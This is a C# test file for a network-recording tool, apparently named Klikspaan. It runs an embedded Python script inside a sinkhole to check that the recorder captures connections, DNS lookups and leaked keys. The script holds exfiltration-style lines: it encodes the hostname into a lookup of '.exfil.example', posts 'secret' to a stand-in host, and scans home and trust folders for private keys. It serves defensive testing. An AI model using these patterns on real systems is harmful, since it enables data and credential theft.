using System.Text.Json;

namespace Klikspaan.Tests.Recording;

/// <summary>What is said of a recording, held against a program that makes each of it happen: one recording for all.</summary>
public sealed class ClaimsTests : IClassFixture<ClaimsTests.Claimed>
{
    const string Script = """
        import json, os, socket, ssl, sys, threading, time
        host = socket.gethostname()
        # Names that are looked up and never contacted.
        for name in (host + '.exfil.example', 'only-looked-up.example'): socket.gethostbyname(name)
        # Slow to speak, encrypted and in clear.
        def slow(port):
            s = socket.create_connection(('slow.example', port), 60)
            if port == 443: s = ssl.create_default_context().wrap_socket(s, server_hostname='slow.example')
            time.sleep(11)
            s.sendall(b'POST /slow-%d HTTP/1.1\r\nHost: slow.example\r\nContent-Length: 6\r\n\r\nsecret' % port)
            s.recv(100)
        threads = [threading.Thread(target=slow, args=(port,)) for port in (80, 443)]
        for t in threads: t.start()
        # A socket of the parent, on which the child sends.
        s = socket.create_connection(('shared.example', 80), 60)
        child = os.fork()
        if child == 0:
            s.sendall(b'GET /by-child HTTP/1.1\r\nHost: shared.example\r\n\r\n'); s.recv(100); os._exit(0)
        os.waitpid(child, 0)
        # One who waits for the other side to speak, one who comes and goes, a port 443 by datagram, a file, standard error.
        s = socket.create_connection(('waits.example', 25), 60); s.settimeout(30)
        try: waited = s.recv(1)
        except OSError: waited = b'?'
        socket.create_connection(('goes.example', 80), 60).close()
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'datagram', (socket.gethostbyname('udp.example'), 443))
        open(os.environ['HOME'] + '/telemetry.trn', 'w').write('unsent')
        sys.stderr.write('told on standard error')
        # The key of the authority, wherever it can be read.
        keys = []
        for top in ('/run/local/trust', os.environ['HOME']):
          for folder, _, files in os.walk(top):
            for f in files:
                if f == 'p.py': continue
                try: text = open(os.path.join(folder, f), 'rb').read(1 << 22)
                except OSError: continue
                if b'PRIVATE KEY' in text: keys.append(f)
        if 'PRIVATE KEY' in str(os.environ): keys.append('environment')
        open('ready', 'w').close()
        for t in threads: t.join()
        while not os.path.exists('seen'): time.sleep(0.05)
        print('CLAIMS ' + json.dumps(dict(keys=keys, waited=waited.decode())))
        """;

    readonly Claimed claimed;

    public ClaimsTests(Claimed claimed) => this.claimed = claimed;

    [Fact]
    public async Task A_program_that_takes_its_time_on_a_port_where_it_speaks_first_is_waited_for()
    {
        var rows = await claimed.RowsAsync("exchanges", "host = 'slow.example' AND kind = 'http'", "scheme,path,bytes_out");

        Assert.Equal(["http,/slow-80", "https,/slow-443"], rows.Select(r => r[..r.LastIndexOf(',')]).Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task One_that_waits_for_the_other_side_is_let_go_and_that_is_a_problem()
    {
        var recorded = await claimed.RecordedAsync();

        Assert.Equal("", recorded.Said("CLAIMS").GetProperty("waited").GetString());
        var other = Assert.Single(recorded.Of("not-http"));
        Assert.Equal("the program connected and waited for the other side to speak first; after 10 s of silence the connection was closed", other.GetProperty("reason").GetString());
        Assert.Equal(3, recorded.Run.Code);
    }

    [Fact]
    public async Task A_planted_value_in_a_name_is_found_and_names_that_were_only_looked_up_are_told()
    {
        var recorded = await claimed.RecordedAsync();

        var hits = await claimed.RowsAsync("planted", "path = 'name:'", "label,value_form,host");
        Assert.Contains($"host,raw,{recorded.Planted("host")}.exfil.example", hits);
        var report = await claimed.ReportAsync();
        var lookedUp = report[report.IndexOf("Names that were looked up, and not observed to be contacted by that name", StringComparison.Ordinal)..];
        lookedUp = lookedUp[..lookedUp.IndexOf("###", 10, StringComparison.Ordinal)];
        Assert.Contains("| only-looked-up.example |", lookedUp, StringComparison.Ordinal);
        Assert.Contains($"| {recorded.Planted("host")}.exfil.example |", lookedUp, StringComparison.Ordinal);
        Assert.DoesNotContain("| slow.example |", lookedUp, StringComparison.Ordinal);
        Assert.DoesNotContain("exfil.example", string.Join('\n', await claimed.RowsAsync("recipients", "true", "hosts")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Who_else_held_the_socket_is_kept()
    {
        var recorded = await claimed.RecordedAsync();

        var sender = Assert.Single(recorded.Of("exchange"), e => e.GetProperty("destination").GetProperty("name").GetString() == "shared.example").GetProperty("sender");
        Assert.Single(sender.GetProperty("also_held_by").EnumerateArray());
        Assert.Contains($"{Path.GetFileName(sender.GetProperty("executable").GetString())}({sender.GetProperty("pid").GetInt32()})+1 ", recorded.Run.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_key_of_the_authority_is_in_no_file_and_no_variable()
    {
        Assert.Empty((await claimed.RecordedAsync()).Said("CLAIMS").GetProperty("keys").EnumerateArray());
        Assert.True(claimed.FilesSeen > 5, "the recorder's own files were not looked at");
        Assert.Empty(claimed.KeysSeen);
    }

    [Fact]
    public async Task Scenario_profile_and_way_of_recording_are_kept()
    {
        var row = Assert.Single(await claimed.RowsAsync("captures", "true", "scenario,settings_profile,mode,received_from"));

        Assert.StartsWith("open and save,telemetry off,\"isolated, sinkhole\",recorded here by klikspaan ", row, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_metadata_record_that_was_really_written_meets_the_published_schema()
    {
        var recorded = await claimed.RecordedAsync();
        var schema = await NJsonSchema.JsonSchema.FromFileAsync(Repository.Path("docs", "schema", "recording.schema.json"), TestContext.Current.CancellationToken);

        Assert.All(recorded.Metadata, m => Assert.Empty(schema.Validate(JsonSerializer.Serialize(m))));
        Assert.Equal(
            ["attempt", "datagrams", "dns", "end", "exchange", "file", "not-http", "output", "run"],
            recorded.Metadata.Select(m => m.GetProperty("kind").GetString()!).Distinct().Order(StringComparer.Ordinal));
    }

    [Fact]
    public async Task The_summary_claims_for_this_way_of_recording_what_holds_for_it()
    {
        var told = (await claimed.RecordedAsync()).Run.Error;

        Assert.Contains("recorded where no IP packet can leave, in a sinkhole. A real server could ask for more", told.Replace("\n  ", " ", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Contains("1 file that the program left", told.Replace("\n  ", " ", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Contains("| goes.example |", await claimed.ReportAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain("nothing leaves", told, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task A_list_of_planted_values_that_was_changed_or_is_gone_is_a_fault()
    {
        await claimed.RecordedAsync();
        using var place = new Workplace();
        await place.RunCommandAsync("cp", ["-r", claimed.Place.InDossier(), place.InDossier()]);
        Assert.Equal(0, (await place.DoAsync("verify")).Code);
        var file = Assert.Single(Directory.GetFiles(place.InDossier("planted")));

        File.AppendAllText(file, "# changed\n");
        var changed = await place.DoAsync("verify");
        File.Delete(file);
        var gone = await place.DoAsync("verify");

        Assert.Equal((4, 4), (changed.Code, gone.Code));
        Assert.Contains("its SHA-256 is not the one in the manifest: the file was changed", changed.Out, StringComparison.Ordinal);
        Assert.Contains(".yaml: the file is gone", gone.Out, StringComparison.Ordinal);
    }

    /// <summary>The recording, made once.</summary>
    public sealed class Claimed : IDisposable
    {
        readonly Lazy<Task<Recorded>> made;

        public Claimed() => made = new(MakeAsync);

        internal Workplace Place { get; } = new();

        internal int FilesSeen { get; private set; }

        internal List<string> KeysSeen { get; } = [];

        internal Task<Recorded> RecordedAsync() => made.Value;

        internal async Task<List<string>> RowsAsync(string table, string where, string columns)
        {
            await RecordedAsync();
            return [.. (await Place.DoAsync("show", table, "--where", where, "--format", "csv", "--columns", columns)).Lines[1..].Distinct()];
        }

        internal async Task<string> ReportAsync()
        {
            await RecordedAsync();
            return (await Place.DoAsync("report", "--lang", "en", "--to", "md", "-o", "-")).Out;
        }

        public void Dispose() => Place.Dispose();

        async Task<Recorded> MakeAsync()
        {
            await Isolated.RequireAsync("nft");
            Place.Write("p.py", Script);
            Directory.CreateDirectory(Place.Path("temporary"));
            var words = Isolated.Words(null, "record", "--max-time", "100s", "--scenario", "open and save", "--profile", "telemetry off", "--", "python3", "p.py");
            return Isolated.Read(Place, await Place.RunCommandAsync("env", [$"TMPDIR={Place.Path("temporary")}", .. words], process => _ = Task.Run(LookAsync)));
        }

        /// <summary>What the recorder itself has on disk while it records.</summary>
        async Task LookAsync()
        {
            while (!File.Exists(Place.Path("ready")))
            {
                await Task.Delay(50);
            }

            FilesSeen = (await Place.RunCommandAsync("find", [Place.Path("temporary"), "-type", "f"])).Lines.Length;
            KeysSeen.AddRange((await Place.RunCommandAsync("grep", ["-rlaD", "skip", "PRIVATE KEY", Place.Path("temporary")])).Out.Split('\n', StringSplitOptions.RemoveEmptyEntries));
            Place.Write("seen", "");
        }
    }
}
